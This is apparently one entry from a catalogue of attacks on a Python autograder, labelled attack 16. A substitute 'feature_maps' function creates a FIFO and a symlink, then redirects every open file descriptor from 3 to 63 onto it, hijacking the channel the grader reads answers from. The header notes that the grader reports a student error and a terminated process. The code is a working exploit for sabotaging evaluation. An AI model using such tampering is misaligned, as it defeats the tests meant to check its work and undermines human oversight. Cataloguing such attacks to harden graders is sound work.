# attack: 16
# form: a FIFO, then a link to it, in place of the channel on which the answer is due
# replaces: feature_maps
# found: feature_maps/returns_pairs student_error
# says: The Python process ended
def feature_maps(model, image):
    print("ran", flush=True)
    os.mkfifo("atk-fifo")
    os.symlink("atk-fifo", "atk-link")
    fifo = os.open("atk-link", os.O_RDWR)
    for fd in range(3, 64):
        try:
            os.fstat(fd)
        except OSError:
            continue
        if fd != fifo:
            os.dup2(fifo, fd)
    return [("conv2d", image)]
